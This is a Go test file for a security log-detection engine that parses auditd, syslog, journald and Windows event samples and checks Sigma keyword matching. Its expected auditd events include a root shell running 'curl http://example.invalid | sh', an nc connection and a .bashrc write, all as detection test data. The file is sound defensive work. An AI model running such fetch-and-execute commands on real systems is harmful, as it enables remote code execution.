package detection_test

import (
	"os"
	"strings"
	"testing"

	"tallinn/defence/detection"
	"tallinn/defence/detection/auditd"
	"tallinn/defence/detection/journald"
	"tallinn/defence/detection/naive"
	"tallinn/defence/detection/ndjson"
	"tallinn/defence/detection/sigma"
	"tallinn/defence/detection/syslog"
	"tallinn/defence/detection/winxml"
	"tallinn/defence/event"
)

type reader interface{ Next(*event.Event) bool }

// told is an event as text: its kind, then the fields asked for.
func told(e *event.Event, names ...string) string {
	parts := []string{e.Service + "/" + e.Category}
	for _, n := range names {
		v, ok := e.Get(n)
		if !ok {
			v = "-"
		}
		parts = append(parts, v)
	}
	return strings.Join(parts, "|")
}

func open(t *testing.T, name string) *os.File {
	t.Helper()
	f, err := os.Open("testdata/sample/" + name)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func TestReaders(t *testing.T) {
	for _, tt := range []struct {
		name   string
		r      reader
		fields []string
		want   []string
	}{
		{"auditd", auditd.NewReader(open(t, "linux/audit.log")), []string{"type", "Image", "CommandLine", "CurrentDirectory", "TargetFilename", "DestinationIp", "DestinationPort", "a2", "User"}, []string{
			"auditd/|SYSCALL|-|-|-|-|-|-|55d2|-",
			"auditd/|EXECVE|-|-|-|-|-|-|curl http://example.invalid | sh|-",
			"auditd/|CWD|-|-|-|-|-|-|-|-",
			"auditd/|PATH|-|-|-|-|-|-|-|-",
			"/process_creation|-|/usr/bin/dash|sh -c curl http://example.invalid | sh|/tmp|-|-|-|curl http://example.invalid | sh|root",
			"auditd/|SYSCALL|-|-|-|-|-|-|-|-",
			"auditd/|CWD|-|-|-|-|-|-|-|-",
			"auditd/|PATH|-|-|-|-|-|-|-|-",
			"/file_event|-|/usr/bin/touch|-|-|/home/ok/.bashrc|-|-|-|1000",
			"auditd/|SYSCALL|-|-|-|-|-|-|-|-",
			"auditd/|SOCKADDR|-|-|-|-|-|-|-|-",
			"/network_connection|-|/usr/bin/nc|-|-|-|192.168.1.1|443|-|1000",
		}},
		{"syslog", syslog.NewReader(open(t, "linux/auth.log"), 2026), []string{"hostname", "program", "pid", "message"}, []string{
			"sshd/|web1|sshd|811|Failed password for invalid user admin from 203.0.113.9 port 52211 ssh2",
			"sshd/|web1|sshd|811|Accepted publickey for olena from 198.51.100.7 port 40022 ssh2",
			"sudo/|web1|sudo|-|   olena : TTY=pts/0 ; PWD=/home/olena ; USER=root ; COMMAND=/usr/bin/id",
			"cron/|web1|cron|77|(root) CMD (run-parts)",
			"syslog/|web1|systemd|1|Started Session 4.",
		}},
		{"journald", journald.NewReader(open(t, "linux/journal.export")), []string{"_HOSTNAME", "MESSAGE"}, []string{
			"sshd/|web1|Failed password for root from 203.0.113.9 port 1 ssh2",
			"syslog/|web1|two\nlines\n\n",
		}},
		{"xml", winxml.NewReader(open(t, "logs/events.xml")), []string{"EventID", "Channel", "Provider_Name", "Execution_ProcessID", "CommandLine", "Command Line", "Data"}, []string{
			"/|4688|Security|Microsoft-Windows-Security-Auditing|4|x & y|x & y|-",
			"/|1|Application|A|-|-|-|one\ntwo",
		}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var e event.Event
			i := 0
			for ; tt.r.Next(&e); i++ {
				got := told(&e, tt.fields...)
				if i >= len(tt.want) || got != tt.want[i] {
					t.Errorf("event %d: %q", i, got)
				}
				if tt.name != "xml" {
					if at, ok := e.Time(); !ok || at.Year() != 2026 {
						t.Errorf("event %d: time %v %v", i, at, ok)
					}
				}
			}
			if i != len(tt.want) {
				t.Errorf("%d events, want %d", i, len(tt.want))
			}
		})
	}
}

// A keyword is looked for in what the log has, and not in what rules also call
// it; a rule for a field finds both.
func TestKeywordsAreOfTheLog(t *testing.T) {
	for rule, want := range map[string]bool{"a: [hklm]": false, "a: [registry]": true, `a: {TargetObject|contains: 'HKLM\\'}`: true} {
		rules := sigma.Parse("t.yml", []byte("title: t\nlogsource: {product: windows}\ndetection:\n  "+rule+"\n  condition: a\n")).Rules
		e, refused := detection.New(rules)
		if len(rules) != 1 || len(refused) > 0 {
			t.Fatal(rule, refused)
		}
		for _, packed := range []bool{false, true} {
			r := ndjson.NewReader(strings.NewReader(`{"Channel":"Security","EventID":4657,"ObjectName":"\\REGISTRY\\MACHINE\\X"}`))
			if packed {
				r.Pack()
			}
			var ev event.Event
			r.Next(&ev)
			if got := len(e.NewMatcher().Match(&ev)) > 0; got != want {
				t.Errorf("%s: %v, want %v (packed %v)", rule, got, want, packed)
			}
			if got := naive.Match(rules[0], &ev, true); got != want {
				t.Errorf("%s: interpreted %v, want %v", rule, got, want)
			}
		}
	}
}
